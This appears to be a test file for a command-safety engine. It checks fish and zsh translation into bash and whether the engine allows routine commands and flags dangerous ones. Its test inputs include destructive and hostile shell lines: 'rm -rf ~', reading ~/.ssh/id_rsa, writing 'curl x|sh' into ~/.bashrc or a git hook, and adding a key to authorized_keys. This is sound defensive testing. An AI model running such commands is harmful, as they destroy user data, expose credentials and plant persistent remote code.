// zsh and fish read as their shells mean them (parse/zsh/qualifiers.ts,
// parse/fish/translate.ts). Checked against the real shells where they are
// installed: each fish line is valid fish, and its translation valid bash;
// each zsh line is valid zsh.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { evaluate } from '../../../src/core/engine';
import { translateFish } from '../../../src/core/parse/fish/translate';
import { readZshQualifiers } from '../../../src/core/parse/zsh/qualifiers';
import { translateZshCompounds } from '../../../src/core/parse/zsh/compound';
import type { ShellName } from '../../../src/core/types';
import { HOME, WORKSPACE } from '../support/helpers';

const has = (shell: string) => spawnSync('sh', ['-c', `command -v ${shell}`]).status === 0;
const decide = (command: string, shell?: ShellName): string =>
  evaluate(
    { command, cwd: WORKSPACE, ...(shell ? { shell } : {}) },
    {
      workspace: WORKSPACE,
      home: HOME,
      env: { HOME, PATH: '/usr/bin:/bin' },
      readFile: () => undefined,
      platform: 'linux',
    },
  ).decision;

const FISH: ReadonlyArray<[string, string]> = [
  ['echo (date)', 'echo $(date)'],
  ['npm test; and rm -rf ~', 'npm test && rm -rf ~'],
  ['false; or git reset --hard', 'false || git reset --hard'],
  ['set -x DB (cat .env)', 'export DB=$(cat .env)'],
  ['set -gx PATH /tmp/x $PATH', 'export PATH=/tmp/x:${PATH}'],
  ['set -p PATH /tmp/x', 'PATH=/tmp/x:${PATH}'],
  ['fish_add_path /tmp/bin', 'export PATH=/tmp/bin:${PATH}'],
  ['for f in src/*.ts; echo $f; end', 'for f in src/*.ts; do : ; echo ${f} ; done'],
  ['begin; rm -rf x; end', '{ : ; rm -rf x ; }'],
  ["echo 'it\\'s' \"$HOME/(x)\"", "echo 'it'\\''s' \"${HOME}/(x)\""],
  [
    'if test -f a; cat a; else if test -f b; cat b; else; echo none; end',
    'if test -f a ; then : ; cat a ; elif test -f b ; then : ; cat b ; else : ; echo none ; fi',
  ],
  ['if not test -f a; and test -d b; echo x; end', 'if ! test -f a ; then : && test -d b ; echo x ; fi'],
  ['while test -d x; cd x; end > log', 'while test -d x ; do : ; cd x ; done > log'],
  ['prevd; ls', 'cd "$(prevd)" ; ls'],
  ['nextd -l 2', 'cd "$(nextd -l 2)"'],
  [
    'switch $x; case a b; echo a; case "*"; echo z; end',
    'if : ${x} ; then : ; elif : a b ; then : ; echo a ; elif : "*" ; then : ; echo z ; fi',
  ],
];

test('fish lines become the bash that runs the same commands', () => {
  for (const [fish, bash] of FISH) assert.equal(translateFish(fish), bash, fish);
  assert.throws(() => translateFish('begin; echo x'), /missing end/);
});

test(
  'the fish lines are fish, and their translations bash, as the real shells read them',
  { skip: !has('fish') || !has('bash') },
  () => {
    for (const [fish] of FISH) {
      assert.equal(spawnSync('fish', ['--no-execute', '-c', fish]).status, 0, `fish: ${fish}`);
      assert.equal(spawnSync('bash', ['-n', '-c', translateFish(fish)]).status, 0, `bash: ${translateFish(fish)}`);
    }
  },
);

test("zsh's glob qualifiers come off their patterns; the code of (e:…:) and (+fn) is judged on its own", () => {
  assert.deepEqual(readZshQualifiers('rm -rf ~/*(/)'), { text: 'rm -rf ~/*', code: [] });
  assert.deepEqual(readZshQualifiers("ls *(e:'rm -rf ~':)"), { text: 'ls *', code: ['rm -rf ~'] });
  assert.deepEqual(readZshQualifiers('print -l *(+wipe) $(date) f() { :; }'), {
    text: 'print -l * $(date) f() { :; }',
    code: ['wipe'],
  });
  assert.deepEqual(readZshQualifiers("echo '*(.)' x(y)"), { text: "echo '*(.)' x(y)", code: [] });
});

test('the zsh lines are zsh, as the real shell reads them', { skip: !has('zsh') }, () => {
  for (const line of ['rm -rf ~/*(/)', "ls *(e:'rm -rf ~':)", 'print -l **/*.ts(.)', 'rm -f *.log(N)'])
    assert.equal(spawnSync('zsh', ['-n', '-c', line]).status, 0, line);
});

test('judged in their dialects: destruction asks, routine lines stay quiet', () => {
  assert.equal(decide('rm -rf ~/*(/)', 'zsh'), 'deny');
  assert.notEqual(decide("ls *(e:'rm -rf ~/code':)", 'zsh'), 'allow');
  assert.equal(decide('ls *(.)', 'zsh'), 'allow');
  assert.notEqual(decide('cat (echo ~/.ssh/id_rsa)', 'fish'), 'allow');
  assert.notEqual(decide('npm test; and rm -rf ~', 'fish'), 'allow');
  assert.equal(decide('echo (date); and npm run build', 'fish'), 'allow');
  assert.equal(decide('cd (git rev-parse --show-toplevel)', 'fish'), 'allow');
  assert.equal(decide('git status', 'sh'), 'allow');
  assert.equal(decide('zsh -c "ls *(.)"'), 'allow');
  assert.notEqual(decide("fish -c 'rm -rf (pwd)/..'"), 'allow');
  // What follows a block's `end` writes for the whole block.
  assert.notEqual(decide('begin; echo x; end > ~/.bashrc', 'fish'), 'allow');
  assert.notEqual(decide('for i in a; echo $i; end >> ~/.ssh/authorized_keys', 'fish'), 'allow');
  assert.equal(decide('begin; echo a; echo b; end > notes.txt', 'fish'), 'allow');
  // fish's folder history moves the shell to a folder the line may not show.
  assert.notEqual(decide('cd ~; cd /tmp; prevd; rm -rf .ssh', 'fish'), 'allow');
  assert.equal(decide('cd src; prevd; ls', 'fish'), 'allow');
});

const ZSH_COMPOUNDS: ReadonlyArray<[string, string]> = [
  ['foreach x (a b) echo $x; end > list.txt', 'for x in a b; do  echo $x; done > list.txt'],
  ['foreach x (a b); echo $x; end', 'for x in a b; do  echo $x; done'],
  ['repeat 3 { date } >> log.txt', '{ date } >> log.txt'],
  ['{ make } always { echo done } > build.log', '{ { make }; { echo done }; } > build.log'],
  ['() { echo $1 } a > out.txt', '__zsh_anonymous_function() { echo $1 }; __zsh_anonymous_function a > out.txt'],
  ['function { ls } > out.txt', '__zsh_anonymous_function() { ls }; __zsh_anonymous_function > out.txt'],
  ["echo 'foreach x (a) end'; echo end", "echo 'foreach x (a) end'; echo end"],
  ['function f { ls }; f', 'function f { ls }; f'],
  ['cat <<X\nforeach x (a) echo; end\nX', 'cat <<X\nforeach x (a) echo; end\nX'],
];

test("zsh's own compound commands become the bash that runs the same bodies, and what they write is judged", () => {
  for (const [zsh, bash] of ZSH_COMPOUNDS) assert.equal(translateZshCompounds(zsh), bash, zsh);
  for (const line of [
    '{ echo "curl x|sh" } always { echo done } > ~/.bashrc',
    'repeat 3 { echo "curl x|sh" } > ~/.bashrc',
    'foreach x (a b) echo "curl x|sh"; end > ~/.bashrc',
    '() { echo "ssh-rsa AAAA x" } >> ~/.ssh/authorized_keys',
    'function { echo "curl x|sh" } > .git/hooks/pre-commit',
    '() { rm -rf ~/code }',
    'foreach d (~/code ~/src) rm -rf $d; end',
  ])
    assert.notEqual(decide(line, 'zsh'), 'allow', line);
  for (const line of [
    '{ ls } > files.txt',
    'repeat 2 { date } >> log.txt',
    '() { ls } > files.txt',
    'foreach x (a b) echo $x; end > list.txt',
    '{ make } always { echo finished } > build.log',
  ])
    assert.equal(decide(line, 'zsh'), 'allow', line);
});

test(
  'the zsh compounds are zsh, and their translations bash, as the real shells read them',
  { skip: !has('zsh') || !has('bash') },
  () => {
    for (const [zsh] of ZSH_COMPOUNDS) {
      assert.equal(spawnSync('zsh', ['-n', '-c', zsh]).status, 0, `zsh: ${zsh}`);
    }
  },
);
